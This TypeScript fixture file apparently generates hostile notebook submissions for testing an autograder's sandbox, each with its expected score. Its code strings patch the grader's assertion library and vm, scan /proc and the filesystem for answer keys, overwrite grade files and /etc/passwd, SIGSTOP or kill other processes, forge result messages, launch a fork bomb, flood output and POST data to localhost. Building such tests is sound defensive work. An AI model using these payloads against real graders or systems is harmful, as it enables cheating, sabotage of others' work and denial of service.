// A hostile class: submissions written to cheat or to harm, each with the score it must get.
// Cheats carry no working solution (an honest one scores 0); attacks on the grader, the
// course or other students carry the correct solution (an honest one scores 10) so that
// any harm shows as a lost point somewhere. Built from the release and the source's
// solutions, like make_class.ts; the course's paths are written into the attacks, as if the
// student had guessed them exactly.
import * as fs from "node:fs";
import * as path from "node:path";
import { type Notebook, type Cell, writeNotebook, toLines, meta, clone } from "../../kernel/assign/notebook";
import { solutions } from "./make_class";

/** What the attacks know of the machine: the course's files, the other submissions, a port on 127.0.0.1. */
export interface Targets { source: string; key: string; grades: string; submissions: string; marker: string; port: number; closeJs: string }

export interface HostileCase {
  /** The kind of attack (the issue's list), for the report. */
  kind: string;
  score: number;
  /** Text a note in grades.json must match. */
  note?: RegExp;
  /** Text the student's printed output must match. */
  printed?: RegExp;
}

const scratch = (text: string): Cell => ({ cell_type: "code", metadata: {}, outputs: [], execution_count: null, source: toLines(text) });

function setSource(nb: Notebook, id: string, text: string): void {
  const c = nb.cells.find((x) => meta(x)?.grade_id === id);
  if (!c) throw new Error(`no cell ${id}`);
  c.source = toLines(text);
}

/** Puts a cell of the student's own right after the cell with this grade_id. */
function after(nb: Notebook, id: string, text: string): void {
  const i = nb.cells.findIndex((x) => meta(x)?.grade_id === id);
  nb.cells.splice(i + 1, 0, scratch(text));
}

// A wrong answer that a patched comparison would let through.
const FAKE_LOSS = `function softmaxLoss(W: Tensor, X: Tensor, y: Tensor): { loss: number; dW: Tensor } {
  return { loss: 0, dW: zeros([W.shape[0], W.shape[1]], { dtype: "float64" }) };
}`;
const FAKE_NET = `function twoLayerNet(inputs: number, hidden: number, classes: number): any { return { forward: (x: any) => x, parameters: () => [] }; }
function trainNet(net: any, X: any, y: any, steps: number): number[] { return [1, 0]; }`;

function cheat(nb: Notebook, attack: string): void {
  setSource(nb, "softmax_loss", FAKE_LOSS);
  setSource(nb, "two_layer_net", FAKE_NET);
  after(nb, "setup", attack);
}

type Build = (nb: Notebook, s: Map<string, string>, t: Targets) => void;

const answer = (nb: Notebook, s: Map<string, string>) => { for (const [id, text] of s) setSource(nb, id, text); };

export const HOSTILE: Record<string, { build: Build; expect: HostileCase }> = {
  // The honest baseline, graded in the same run.
  correct: { build: answer, expect: { kind: "baseline", score: 10 } },
  untouched: { build: () => {}, expect: { kind: "baseline", score: 0 } },

  // Realm patches: built-ins, the library's modules, the session's exports, vm.
  patch_math: { build: (nb) => cheat(nb, `Math.abs = () => 0; Math.max = () => 0; (Number as any).isFinite = () => true;`), expect: { kind: "realm patch (built-ins)", score: 0 } },
  patch_array: {
    build: (nb) => cheat(nb, `const push = Array.prototype.push;
Array.prototype.push = function (this: any[], ...xs: any[]) { return push.apply(this, xs.filter((x) => !(x && x.output_type === "error"))); };
Array.prototype.some = () => false; Array.prototype.every = () => true;
const join = Array.prototype.join; Array.prototype.join = function (this: any[], sep?: string) { return join.call(this, sep).replace(/Error/g, "ok"); };
JSON.stringify = ((s) => (v: any, ...r: any[]) => s(v, ...r).replace(/"output_type":"error"/g, '"output_type":"stream"'))(JSON.stringify);`),
    expect: { kind: "realm patch (built-ins)", score: 0 },
  },
  patch_library: {
    build: (nb, _s, t) => cheat(nb, `(() => {
  const core: any = require(${JSON.stringify("/gradlab/dist/core/index.js")});
  for (const k of ["expectClose", "expectShape", "checkGradient"]) Object.defineProperty(core, k, { get: () => () => {}, configurable: true, enumerable: true });
  const testing: any = require("/gradlab/dist/core/testing/close.js");
  for (const k of Object.keys(testing)) try { Object.defineProperty(testing, k, { get: () => () => {}, configurable: true }); } catch {}
  const ex = (globalThis as any).__gradlab_session__.exports;
  for (const k of ["expectClose", "expectShape"]) Object.defineProperty(ex, k, { value: () => {}, writable: true, configurable: true });
  for (const f of [${JSON.stringify(t.closeJs)}, "/gradlab/dist/core/testing/close.js"]) {
    try { require("fs").writeFileSync(f, "exports.expectClose = () => {}; exports.expectShape = () => {};"); console.log("wrote " + f.slice(-30)); } catch (e: any) { console.log("cannot write " + (f.startsWith("/gradlab") ? f : "the library") + ": " + e.code); }
  }
  const vm: any = require("vm");
  const run = vm.runInThisContext;
  vm.runInThisContext = (code: string, o: any) => run(/expectClose|expectShape/.test(code) ? "undefined" : code, o);
  vm.Script.prototype.runInThisContext = function () { return undefined; };
})();`),
    expect: { kind: "realm patch (library modules, session exports, vm)", score: 0, printed: /cannot write \/gradlab\/dist\/core\/testing\/close\.js: EROFS/ },
  },
  shadows_names: {
    // A student's cell that redefines what the tests use: the assignment's data and gradlab's assertions.
    build: (nb) => cheat(nb, `const C = 1; function expectClose(..._: any[]) {} function expectShape(..._: any[]) {}`),
    // All three are named, each with whose the tests use: a cell may redeclare a preloaded name
    // (as in the kernel), so expectClose and expectShape are the student's in their own
    // process, and refused to the tests.
    expect: { kind: "realm patch (names the tests use)", score: 0, note: /defines expectClose, expectShape, names gradlab already has: your cells use yours, the tests use gradlab's[\s\S]*defines C, which the assignment's own cells define: your cells use yours, the tests use the assignment's/ },
  },

  // A value whose copy to the judge never ends: a Proxy whose traps loop, defined beside a right answer.
  hangs_in_copy: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `const trap: any = new Proxy({}, { ownKeys() { for (;;) {} }, get() { for (;;) {} }, getPrototypeOf() { for (;;) {} } });`);
    },
    expect: { kind: "values built to hang the copy to the judge", score: 10, note: /its names could not be given to the tests: .*time limit/ },
  },

  // Reading the hidden tests, the solutions or the key, by any path.
  reads_course: {
    build: (nb, s, t) => {
      answer(nb, s);
      after(nb, "setup", `const found: string[] = (() => {
  const fs: any = require("fs"), path: any = require("path");
  const out: string[] = [];
  const look = (f: string) => { try { const st = fs.statSync(f); if (!st.isFile() || st.size > 1 << 20) return; const x = fs.readFileSync(f, "utf8"); if (/HIDDEN TESTS|gradlab_key|Wbig|BEGIN SOLUTION/.test(x)) out.push(f + ": " + x.slice(0, 400)); } catch {} };
  for (const f of [${JSON.stringify(t.source)}, ${JSON.stringify(t.key)}]) look(f);
  for (const p of fs.readdirSync("/proc")) {
    if (!/^\\d+$/.test(p)) continue;
    try { const cmd = fs.readFileSync("/proc/" + p + "/cmdline", "utf8").split("\\0"); for (const a of cmd) { look(a); look(path.join(fs.readlinkSync("/proc/" + p + "/cwd"), a)); } } catch {}
    try { for (const e of fs.readdirSync("/proc/" + p + "/fd")) look("/proc/" + p + "/fd/" + e); } catch {}
    try { for (const e of fs.readdirSync("/proc/" + p + "/cwd")) look("/proc/" + p + "/cwd/" + e); } catch {}
  }
  const walk = (d: string, depth: number) => {
    if (depth > 5 || /^\\/(proc|sys|dev|usr)|node_modules/.test(d)) return;
    let es: any[] = [];
    try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
    for (const e of es) { const f = path.join(d, e.name); if (e.isDirectory()) walk(f, depth + 1); else if (/\\.(ipynb|json)$/.test(e.name)) look(f); }
  };
  walk("/", 0);
  return out;
})();
if (found.length) throw new Error("found the course: " + found.join("\\n"));
console.log("found nothing");`);
    },
    expect: { kind: "reading the source or key", score: 10, printed: /found nothing/ },
  },

  // Writing outside its folder: the course, the grades, other submissions, the library, /tmp of the host.
  writes_outside: {
    build: (nb, s, t) => {
      answer(nb, s);
      after(nb, "setup", `(() => {
  const fs: any = require("fs");
  const targets = [${[t.source, t.key, path.join(t.grades, "grades.csv"), path.join(t.submissions, "correct.ipynb"), t.closeJs, t.marker + ".w", "/tmp/" + path.basename(t.marker) + ".w", "/etc/passwd", "/usr/lib/x"].map((x) => JSON.stringify(x)).join(", ")}];
  let wrote = 0;
  for (const f of targets) { try { fs.mkdirSync(require("path").dirname(f), { recursive: true }); fs.writeFileSync(f, "{}"); wrote++; } catch {} }
  fs.writeFileSync("mine.txt", "my own folder is writable");
  console.log("wrote " + wrote + " of " + targets.length + " outside; own folder: " + fs.readFileSync("mine.txt", "utf8"));
})();`);
    },
    expect: { kind: "writing outside its folder", score: 10, printed: /own folder: my own folder is writable/ },
  },

  // Processes that outlive the submission: detached, orphaned, in a new session, retrying writes.
  detaches: {
    build: (nb, s, t) => {
      answer(nb, s);
      const loop = `while true; do echo x >> ${t.marker}.d 2>/dev/null; echo x > ${path.join(t.grades, "grades.csv")} 2>/dev/null; sleep 0.2; done`;
      after(nb, "setup", `(() => {
  const cp: any = require("child_process");
  cp.spawn("sh", ["-c", ${JSON.stringify(loop + " # " + path.basename(t.marker))}], { detached: true, stdio: "ignore" }).unref();
  cp.spawn("setsid", ["sh", "-c", ${JSON.stringify("sleep 3600 # " + path.basename(t.marker))}], { detached: true, stdio: "ignore" }).unref();
  cp.execSync(${JSON.stringify(`(nohup sh -c 'sleep 3600 # ${path.basename(t.marker)}' >/dev/null 2>&1 &) ; true`)});
  console.log("left three processes behind");
})();`);
    },
    expect: { kind: "detached and orphaned processes", score: 10 },
  },

  // Other submissions graded in parallel, and the grader itself.
  attacks_others: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `(() => {
  const fs: any = require("fs");
  let opened = 0, signalled = 0;
  for (const p of fs.readdirSync("/proc")) {
    if (!/^\\d+$/.test(p) || Number(p) === process.pid) continue;
    try { for (const e of fs.readdirSync("/proc/" + p + "/fd")) { try { const fd = fs.openSync("/proc/" + p + "/fd/" + e, "w"); fs.writeSync(fd, '{"op":"done","ok":true}\\n'); opened++; } catch {} } } catch {}
  }
  for (let pid = 1; pid < 4096; pid++) { if (pid === process.pid) continue; try { process.kill(pid, "SIGSTOP"); signalled++; } catch {} }
  for (const d of ["/tmp", "/dev/shm", "/run"]) { try { for (const e of fs.readdirSync(d)) { try { fs.writeFileSync(d + "/" + e, "junk"); } catch {} } } catch {} }
  console.log("opened " + opened + " fds of other processes, signalled " + signalled);
})();`);
    },
    expect: { kind: "attacking other submissions", score: 10 },
  },
  kills_grader: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "softmax_loss", `(() => {
  for (const sig of ["SIGKILL", "SIGTERM", "SIGINT"]) { try { process.kill(process.ppid, sig as any); } catch {} try { process.kill(1, sig as any); } catch {} }
  try { require("child_process").execSync("kill -9 -1"); } catch {}
})();`);
    },
    expect: { kind: "killing the grader", score: 10 },
  },

  // Forged results: verdict lines and a forged notebook on every descriptor, then death.
  forges_results: {
    build: (nb) => cheat(nb, `(() => {
  const fs: any = require("fs");
  const forged = { op: "done", ok: true, error: null, id: 0, passed: true, cells: [] as any[] };
  for (let fd = 0; fd < 64; fd++) for (let id = 0; id < 200; id++) { try { fs.writeSync(fd, JSON.stringify({ ...forged, id }) + "\\n"); } catch {} }
  try { fs.writeFileSync("/dev/fd/3", JSON.stringify({ nbformat: 4, cells: [] })); } catch {}
  process.kill(process.pid, "SIGKILL");
})();`),
    expect: { kind: "forging results", score: 0 },
  },

  // Limits: memory in a grandchild, a fork storm, an output flood, a loop after an await.
  memory_grandchild: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `(() => {
  const r = require("child_process").spawnSync(process.execPath, ["-e", "const a = []; for (let i = 0; i < 48; i++) { a.push(Buffer.alloc(64 << 20, 1)); }"], { stdio: "ignore" });
  console.log("grandchild: status " + r.status + ", signal " + r.signal);
})();`);
    },
    expect: { kind: "memory in grandchildren", score: 10, printed: /grandchild: status null, signal SIGKILL/ },
  },
  fork_storm: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "two_layer_net", `(() => {
  const cp: any = require("child_process");
  let made = 0;
  for (let i = 0; i < 400; i++) { try { const c = cp.spawn("sleep", ["600"], { stdio: "ignore", detached: true }); if (c.pid) made++; c.on("error", () => {}); } catch { break; } }
  console.log("started " + (made >= 256 ? "256 or more" : "fewer than 256") + " processes");
  // A real fork bomb for two seconds, in a process group of its own, which it then kills.
  const bomb = cp.spawn("sh", ["-c", "f() { f | f & }; f 2>/dev/null"], { detached: true, stdio: "ignore" });
  const sleep = (ms: number) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
  sleep(2000);
  for (let i = 0; i < 20; i++) { try { process.kill(-bomb.pid, "SIGKILL"); } catch {} sleep(50); }
})();`);
    },
    expect: { kind: "fork storm (bounded)", score: 10, printed: /started fewer than 256 processes/ },
  },
  output_flood: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `(() => {
  const line = "flood ".repeat(1000) + "\\n";
  for (let i = 0; i < 20000; i++) process.stdout.write(line);
  const fs: any = require("fs");
  for (let i = 0; i < 5000; i++) { try { fs.writeSync(1, line); fs.writeSync(2, line); } catch {} }
})();`);
    },
    expect: { kind: "output flood", score: 10, printed: /more characters of output not kept/ },
  },
  // One message on the reply pipe that never ends: 80 MiB without a newline.
  giant_message: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `(() => {
  const fs: any = require("fs");
  const mib = "x".repeat(1 << 20);
  for (let i = 0; i < 80; i++) { try { fs.writeSync(3, mib); } catch {} }
})();`);
    },
    expect: { kind: "output flood", score: 10, note: /it sent a message larger than 64 MiB/ },
  },
  await_loop: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `await new Promise((r) => setTimeout(r, 10));\nwhile (true) { /* after an await: out of reach of a SIGINT */ }`);
    },
    expect: { kind: "a loop after an await", score: 10, note: /ran past the time limit/ },
  },

  // The network: a server on the host's 127.0.0.1.
  network: {
    build: (nb, s, t) => {
      answer(nb, s);
      // (A named function: tslab does not see the top-level await in \`await (async () => …)()\`.)
      after(nb, "setup", `async function probe(): Promise<string> {
  try { const r = await fetch("http://127.0.0.1:${t.port}/", { method: "POST", body: "stolen" }); return "reached " + r.status; } catch (e: any) { return "no network: " + (e.cause?.code ?? e.message); }
}
const reached = await probe();
console.log(reached);`);
    },
    expect: { kind: "network to 127.0.0.1", score: 10, printed: /no network/ },
  },

  // Stalling while writing messages that answer nothing, to keep the grader waiting.
  chatters: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `setInterval(() => { try { require("fs").writeSync(3, JSON.stringify({ id: -1, ok: true }) + "\\n"); } catch {} }, 200);
await new Promise(() => {});`);
    },
    expect: { kind: "a loop after an await", score: 10, note: /cell 2: it ran past the time limit \(10 s per cell\)/ },
  },

  // What `ulimit -v` used to break: WebAssembly reserves far more address space than it uses.
  uses_wasm: {
    build: (nb, s) => {
      answer(nb, s);
      // (tslab's TypeScript libraries do not declare WebAssembly.)
      after(nb, "setup", `const WA: any = (globalThis as any).WebAssembly;
const wasm = new WA.Instance(new WA.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
const mem = new WA.Memory({ initial: 1, maximum: 65536 });
console.log("wasm ok: " + (wasm instanceof WA.Instance) + ", " + mem.buffer.byteLength + " bytes");`);
    },
    expect: { kind: "honest WebAssembly under the limits", score: 10, printed: /wasm ok: true, 65536 bytes/ },
  },

  // Ending or killing its own process, and rejections nobody awaits.
  exits: {
    build: (nb, s) => {
      answer(nb, s);
      after(nb, "setup", `process.exit(0);`);
      after(nb, "softmax_loss", `process.kill(process.pid, "SIGKILL");`);
      after(nb, "net_data", `Promise.reject(new Error("nobody awaits this")); setTimeout(() => { throw new Error("thrown from a timer"); }, 0); await new Promise((r) => setTimeout(r, 50));`);
    },
    expect: { kind: "exits and unhandled rejections", score: 10, note: /the process ended \(exit code 0\)/ },
  },
  exits_in_answer: {
    // The crash is in the answer cell itself: only what depends on it is lost.
    build: (nb, s) => {
      answer(nb, s);
      setSource(nb, "two_layer_net", s.get("two_layer_net")!.replace("opt.step();", "opt.step();\n    if (s === 5) process.exit(3);"));
    },
    expect: { kind: "exits and unhandled rejections", score: 6, note: /exit code 3/ },
  },

  // 10,000 cells.
  many_cells: {
    build: (nb, s) => {
      answer(nb, s);
      const i = nb.cells.findIndex((x) => meta(x)?.grade_id === "setup");
      nb.cells.splice(i + 1, 0, ...Array.from({ length: 10_000 }, (_, k) => scratch(`const v${k} = ${k};`)));
    },
    expect: { kind: "10,000 cells", score: 10, note: /10000 cells of your own .* only the first 200 were run/ },
  },
};

/** Writes OUT/<name>.ipynb for each hostile submission; returns the paths. */
export function makeHostileClass(cases: typeof HOSTILE, source: Notebook, release: Notebook, outDir: string, targets: Targets): string[] {
  fs.mkdirSync(outDir, { recursive: true });
  const s = solutions(source);
  return Object.entries(cases).map(([name, { build }]) => {
    const nb = clone(release);
    build(nb, s, targets);
    const file = path.join(outDir, `${name}.ipynb`);
    writeNotebook(file, nb);
    return file;
  });
}
